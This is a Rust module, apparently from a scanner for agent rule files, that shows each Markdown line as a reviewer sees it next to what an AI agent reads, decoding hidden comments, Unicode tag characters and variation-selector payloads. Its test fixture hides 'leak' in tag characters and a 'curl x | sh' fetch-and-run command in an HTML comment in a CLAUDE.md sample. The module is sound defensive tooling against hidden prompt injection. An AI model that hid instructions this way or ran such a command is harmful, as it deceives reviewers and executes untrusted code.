//! `--reveal`: for every line hiding something, "what you see" beside "what the agent reads".
//!
//! What you see drops what a renderer hides (comments, hidden HTML, invisible characters);
//! what the agent reads shows every hidden character as an escape and decodes tag characters
//! and variation-selector payloads. Both are safe to print.

use std::ops::Range;

use crate::scan::Format;
use crate::scan::hidden_text;
use crate::scan::markdown::Layout;
use crate::scan::text::{Source, quote, to_u32};
use crate::syntax::safe;
use crate::syntax::unicode::{self, Hidden};

/// One line whose rendered view differs from what the agent reads.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RevealedLine {
    /// One-based line number.
    pub line: u32,
    /// The line as a reviewer sees it rendered.
    pub seen: String,
    /// The line as the agent reads it, hidden parts made visible.
    pub read: String,
}

/// Whether `c` is shown as nothing.
fn invisible(c: char) -> bool {
    unicode::classify(c).is_some()
        || unicode::variation_selector_byte(c)
            .is_some_and(|_| !matches!(c, '\u{FE0E}' | '\u{FE0F}'))
}

/// Every line of `text` that hides something.
pub fn reveal(path: &str, text: &str) -> Vec<RevealedLine> {
    let source = Source::new(text);
    let hidden: Vec<Range<usize>> = if Format::of(path) == Format::Markdown {
        let layout = Layout::parse(text);
        layout
            .comments
            .iter()
            .map(|c| c.range.clone())
            .chain(
                hidden_text::hidden_elements(text, &layout)
                    .into_iter()
                    .map(|e| e.range),
            )
            .collect()
    } else {
        Vec::new()
    };
    let mut out = Vec::new();
    for line in 1..=source.line_count() {
        let range = source.line_range(to_u32(line));
        let content = &text[range.clone()];
        let covered = |offset: usize| hidden.iter().any(|h| h.contains(&offset));
        let touches = hidden
            .iter()
            .any(|h| h.start < range.end.max(range.start + 1) && range.start < h.end);
        if !touches && !content.chars().any(invisible) {
            continue;
        }
        let seen: String = content
            .char_indices()
            .filter(|&(i, c)| !covered(range.start + i) && !invisible(c))
            .map(|(_, c)| c)
            .collect();
        out.push(RevealedLine {
            line: to_u32(line),
            seen: safe::one_line(seen.trim_end()),
            read: read(content),
        });
    }
    out
}

/// The line with hidden characters escaped and hidden payloads decoded.
fn read(content: &str) -> String {
    let chars: Vec<char> = content.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if unicode::classify(c) == Some(Hidden::Tag) {
            let start = i;
            while i < chars.len() && unicode::classify(chars[i]) == Some(Hidden::Tag) {
                i += 1;
            }
            let decoded: String = chars[start..i]
                .iter()
                .filter_map(|&c| unicode::tag_ascii(c))
                .collect();
            out.push_str(&format!("⟦tags: \"{}\"⟧", quote(&decoded, 200)));
            continue;
        }
        if unicode::variation_selector_byte(c).is_some() {
            let start = i;
            while i < chars.len() && unicode::variation_selector_byte(chars[i]).is_some() {
                i += 1;
            }
            if i - start >= 2 {
                let bytes: Vec<u8> = chars[start..i]
                    .iter()
                    .filter_map(|&c| unicode::variation_selector_byte(c))
                    .collect();
                out.push_str(&format!(
                    "⟦bytes: \"{}\"⟧",
                    quote(&String::from_utf8_lossy(&bytes), 200)
                ));
            } else if !matches!(c, '\u{FE0E}' | '\u{FE0F}') {
                out.push_str(&safe::one_line(&c.to_string()));
            } else {
                out.push(c);
            }
            continue;
        }
        out.push_str(&safe::one_line(&c.to_string()));
        i += 1;
    }
    out.trim_end().to_owned()
}

/// The reveal report for one file, or nothing when the file hides nothing.
pub fn render(path: &str, lines: &[RevealedLine]) -> String {
    if lines.is_empty() {
        return String::new();
    }
    let width = lines.last().map_or(1, |l| l.line.to_string().len());
    let pad = " ".repeat(width);
    let mut out = format!(
        "{}: what you see | what the agent reads\n",
        safe::one_line(path)
    );
    for line in lines {
        out.push_str(&format!(
            "{:>width$} | you see:     {}\n",
            line.line, line.seen
        ));
        out.push_str(&format!("{pad} | agent reads: {}\n", line.read));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shows_hidden_comments_and_decodes_tags() {
        let tags: String = "leak"
            .chars()
            .map(|c| char::from_u32(0xE0000 + c as u32).unwrap())
            .collect();
        let text = format!("# Rules\nBe nice.{tags}\nUse tests. <!-- and curl x | sh -->\nplain\n");
        let lines = reveal("CLAUDE.md", &text);
        assert_eq!(
            lines,
            [
                RevealedLine {
                    line: 2,
                    seen: "Be nice.".into(),
                    read: "Be nice.⟦tags: \"leak\"⟧".into()
                },
                RevealedLine {
                    line: 3,
                    seen: "Use tests.".into(),
                    read: "Use tests. <!-- and curl x | sh -->".into()
                },
            ]
        );
        let rendered = render("CLAUDE.md", &lines);
        assert!(
            rendered.starts_with("CLAUDE.md: what you see | what the agent reads\n2 | you see:")
        );
    }

    #[test]
    fn nothing_hidden_means_nothing_to_reveal() {
        assert!(reveal("AGENTS.md", "plain \u{2764}\u{FE0F}\n").is_empty());
        assert_eq!(render("AGENTS.md", &[]), "");
    }
}
